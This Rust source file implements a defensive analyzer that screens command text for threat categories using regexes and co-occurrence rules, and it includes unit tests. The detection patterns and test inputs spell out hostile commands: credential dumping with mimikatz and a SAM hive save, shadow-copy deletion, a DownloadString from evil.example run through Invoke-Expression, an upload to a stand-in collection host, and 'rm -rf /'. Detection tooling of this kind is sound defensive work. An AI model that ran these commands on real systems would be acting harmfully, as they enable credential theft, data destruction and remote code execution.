//! Threat-intent analysis over command text and parameters.
//!
//! Two mechanisms run in sequence. Category patterns are compiled
//! case-insensitive regexes, one per named threat category, tested
//! against the command text and every parameter value. Combination
//! rules are coarse substring co-occurrence checks over the raw
//! command text, catching staged attacks whose individual halves look
//! innocuous.
//!
//! The category table is fixed at construction and shared read-only.
//! The combination rule set is policy data: callers may supply their
//! own tuned set in place of the defaults.

use std::collections::BTreeMap;

use regex::Regex;

use crate::models::{CombinationRule, SemanticVerdict, ThreatCategory};

/// One compiled category entry.
struct CategoryPattern {
    category: ThreatCategory,
    pattern: Regex,
}

/// Analyzer for threat intent in command text.
///
/// # Example
///
/// ```rust
/// use warden_semantic::SemanticAnalyzer;
/// use std::collections::BTreeMap;
///
/// let analyzer = SemanticAnalyzer::new();
/// let verdict = analyzer.analyze("Get-Process -Name w3wp", &BTreeMap::new());
/// assert!(verdict.is_clean());
/// ```
pub struct SemanticAnalyzer {
    categories: Vec<CategoryPattern>,
    combinations: Vec<CombinationRule>,
}

impl SemanticAnalyzer {
    /// Creates an analyzer with the built-in category table and default
    /// combination rules.
    #[must_use]
    pub fn new() -> Self {
        Self {
            categories: Self::build_categories(),
            combinations: Self::default_combinations(),
        }
    }

    /// Creates an analyzer with a custom combination rule set. The
    /// category table is always the built-in one.
    #[must_use]
    pub fn with_combinations(combinations: Vec<CombinationRule>) -> Self {
        Self {
            categories: Self::build_categories(),
            combinations,
        }
    }

    /// Builds the fixed category table.
    fn build_categories() -> Vec<CategoryPattern> {
        vec![
            CategoryPattern {
                category: ThreatCategory::PrivilegeEscalation,
                pattern: Regex::new(
                    r"(?i)\b(sudo|runas|su\s+-|set-executionpolicy|net\s+localgroup\s+administrators|add-localgroupmember|usermod\s+-aG\s+(sudo|wheel))\b",
                )
                .unwrap(),
            },
            CategoryPattern {
                category: ThreatCategory::LateralMovement,
                pattern: Regex::new(
                    r"(?i)\b(psexec|enter-pssession|new-pssession|invoke-command\s+-computername|wmic\s+/node|winrs\s+-r)\b",
                )
                .unwrap(),
            },
            CategoryPattern {
                category: ThreatCategory::DataExfiltration,
                pattern: Regex::new(
                    r"(?i)(invoke-webrequest\s[^|]*-method\s+post|curl\s[^|]*(--upload-file|-T\s|-d\s+@)|scp\s+\S+\s+\S+@|rsync\s[^|]*\s\S+@|nc\s+-w\s*\d+\s+\S+\s+\d+\s*<)",
                )
                .unwrap(),
            },
            CategoryPattern {
                category: ThreatCategory::CredentialTheft,
                pattern: Regex::new(
                    r"(?i)(mimikatz|sekurlsa|\blsass\b|ntds\.dit|/etc/shadow|reg\s+save\s+hklm\\sam|cmdkey\s+/list|get-storedcredential)",
                )
                .unwrap(),
            },
            CategoryPattern {
                category: ThreatCategory::Obfuscation,
                pattern: Regex::new(
                    r"(?i)(-encodedcommand\b|-enc\s+[A-Za-z0-9+/=]|frombase64string|invoke-expression|\biex\s*\(|\[char\]\s*\d+|-join\s*\()",
                )
                .unwrap(),
            },
            CategoryPattern {
                category: ThreatCategory::Persistence,
                pattern: Regex::new(
                    r"(?i)(new-scheduledtask|schtasks\s+/create|crontab\s+-|reg\s+add\s[^|]*\\(run|runonce)\b|new-service\b|systemctl\s+enable|update-rc\.d)",
                )
                .unwrap(),
            },
            CategoryPattern {
                category: ThreatCategory::DestructiveOperation,
                pattern: Regex::new(
                    r"(?i)(rm\s+-rf?\s+/|remove-item\s[^|]*-recurse\s[^|]*-force|format-volume|\bmkfs|dd\s+if=/dev/(zero|urandom)|clear-eventlog|wevtutil\s+cl\b|vssadmin\s+delete\s+shadows)",
                )
                .unwrap(),
            },
            CategoryPattern {
                category: ThreatCategory::RemoteCodeExecution,
                pattern: Regex::new(
                    r"(?i)(downloadstring|downloadfile|start-bitstransfer|invoke-restmethod\s[^|]*\|\s*iex|(curl|wget)\s[^|]*\|\s*(ba|z)?sh\b)",
                )
                .unwrap(),
            },
        ]
    }

    /// Default combination rules. Substring triggers, lowercase.
    fn default_combinations() -> Vec<CombinationRule> {
        vec![
            CombinationRule::new(
                "download_and_execute",
                ThreatCategory::RemoteCodeExecution,
                vec![
                    "downloadstring".to_string(),
                    "downloadfile".to_string(),
                    "start-bitstransfer".to_string(),
                    "certutil -urlcache".to_string(),
                    "wget ".to_string(),
                    "curl ".to_string(),
                ],
                vec![
                    "invoke-expression".to_string(),
                    "iex ".to_string(),
                    "iex(".to_string(),
                    "start-process".to_string(),
                    "| sh".to_string(),
                    "| bash".to_string(),
                ],
            ),
            CombinationRule::new(
                "credential_dump_and_send",
                ThreatCategory::DataExfiltration,
                vec![
                    "mimikatz".to_string(),
                    "sekurlsa".to_string(),
                    "lsass".to_string(),
                    "reg save hklm\\sam".to_string(),
                    "/etc/shadow".to_string(),
                ],
                vec![
                    "invoke-webrequest".to_string(),
                    "invoke-restmethod".to_string(),
                    "curl ".to_string(),
                    "scp ".to_string(),
                    "nc ".to_string(),
                ],
            ),
            CombinationRule::new(
                "security_disable_and_execute",
                ThreatCategory::DestructiveOperation,
                vec![
                    "set-mppreference".to_string(),
                    "disable-windowsdefender".to_string(),
                    "setenforce 0".to_string(),
                    "systemctl stop auditd".to_string(),
                    "sc stop windefend".to_string(),
                ],
                vec![
                    "invoke-expression".to_string(),
                    "start-process".to_string(),
                    "iex ".to_string(),
                    "| sh".to_string(),
                    "| bash".to_string(),
                ],
            ),
        ]
    }

    /// Analyzes command text and parameter values.
    ///
    /// Category patterns run first, command text before parameter
    /// values; the first match is the verdict. Combination rules run
    /// only when no single category matched.
    pub fn analyze(
        &self,
        command: &str,
        parameters: &BTreeMap<String, String>,
    ) -> SemanticVerdict {
        for entry in &self.categories {
            if entry.pattern.is_match(command) {
                return SemanticVerdict::Violation {
                    category: entry.category,
                    detail: format!("{} pattern in command text", entry.category),
                };
            }
        }

        for (name, value) in parameters {
            for entry in &self.categories {
                if entry.pattern.is_match(value) {
                    return SemanticVerdict::Violation {
                        category: entry.category,
                        detail: format!("{} pattern in parameter '{}'", entry.category, name),
                    };
                }
            }
        }

        let lowered = command.to_lowercase();
        for rule in &self.combinations {
            if rule.matches(&lowered) {
                return SemanticVerdict::Violation {
                    category: rule.category,
                    detail: format!("combination rule '{}' in command text", rule.name),
                };
            }
        }

        SemanticVerdict::Clean
    }
}

impl Default for SemanticAnalyzer {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn analyze(command: &str) -> SemanticVerdict {
        SemanticAnalyzer::new().analyze(command, &BTreeMap::new())
    }

    fn category_of(verdict: &SemanticVerdict) -> Option<ThreatCategory> {
        match verdict {
            SemanticVerdict::Clean => None,
            SemanticVerdict::Violation { category, .. } => Some(*category),
        }
    }

    #[test]
    fn test_clean_command() {
        assert!(analyze("Get-Process -Name w3wp").is_clean());
        assert!(analyze("Get-Service | Where-Object Status -eq Running").is_clean());
    }

    #[test]
    fn test_privilege_escalation() {
        let v = analyze("sudo cat /var/log/syslog");
        assert_eq!(category_of(&v), Some(ThreatCategory::PrivilegeEscalation));
    }

    #[test]
    fn test_lateral_movement() {
        let v = analyze("Enter-PSSession -ComputerName DC01");
        assert_eq!(category_of(&v), Some(ThreatCategory::LateralMovement));
    }

    #[test]
    fn test_data_exfiltration() {
        let v = analyze("curl --upload-file dump.bin http://collect.example/");
        assert_eq!(category_of(&v), Some(ThreatCategory::DataExfiltration));
    }

    #[test]
    fn test_credential_theft() {
        let v = analyze("reg save hklm\\sam sam.hive");
        assert_eq!(category_of(&v), Some(ThreatCategory::CredentialTheft));
    }

    #[test]
    fn test_obfuscation() {
        let v = analyze("powershell -EncodedCommand SQBFAFgA");
        assert_eq!(category_of(&v), Some(ThreatCategory::Obfuscation));
    }

    #[test]
    fn test_persistence() {
        let v = analyze("schtasks /create /tn updater /tr payload.exe /sc onlogon");
        assert_eq!(category_of(&v), Some(ThreatCategory::Persistence));
    }

    #[test]
    fn test_destructive_operation() {
        let v = analyze("vssadmin delete shadows /all /quiet");
        assert_eq!(category_of(&v), Some(ThreatCategory::DestructiveOperation));
    }

    #[test]
    fn test_remote_code_execution() {
        let v = analyze(
            "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
        );
        assert!(!v.is_clean());
    }

    #[test]
    fn test_parameter_values_screened() {
        let params: BTreeMap<String, String> =
            [("script".to_string(), "mimikatz sekurlsa::logonpasswords".to_string())]
                .into_iter()
                .collect();
        let v = SemanticAnalyzer::new().analyze("Invoke-Maintenance", &params);
        assert_eq!(category_of(&v), Some(ThreatCategory::CredentialTheft));
        match v {
            SemanticVerdict::Violation { detail, .. } => assert!(detail.contains("script")),
            SemanticVerdict::Clean => panic!("expected violation"),
        }
    }

    #[test]
    fn test_download_and_execute_combination() {
        // Neither half matches a single category; the pairing does.
        let v = analyze("certutil -urlcache -split -f http://x/a.exe a.exe && Start-Process a.exe");
        assert_eq!(category_of(&v), Some(ThreatCategory::RemoteCodeExecution));
    }

    #[test]
    fn test_security_disable_and_execute_combination() {
        let v = analyze("Set-MpPreference -DisableRealtimeMonitoring $true && Start-Process p.exe");
        assert_eq!(category_of(&v), Some(ThreatCategory::DestructiveOperation));
    }

    #[test]
    fn test_combination_halves_alone_are_clean() {
        assert!(analyze("certutil -urlcache -split -f http://x/a.txt a.txt").is_clean());
        assert!(analyze("Start-Process notepad.exe").is_clean());
    }

    #[test]
    fn test_custom_combination_rules() {
        let rules = vec![CombinationRule::new(
            "archive_and_send",
            ThreatCategory::DataExfiltration,
            vec!["compress-archive".to_string()],
            vec!["send-mailmessage".to_string()],
        )];
        let analyzer = SemanticAnalyzer::with_combinations(rules);
        let v = analyzer.analyze(
            "Compress-Archive -Path C:/data -DestinationPath d.zip && Send-MailMessage",
            &BTreeMap::new(),
        );
        assert_eq!(category_of(&v), Some(ThreatCategory::DataExfiltration));
    }

    #[test]
    fn test_case_insensitive() {
        let v = analyze("SUDO RM -RF /");
        assert!(!v.is_clean());
    }
}
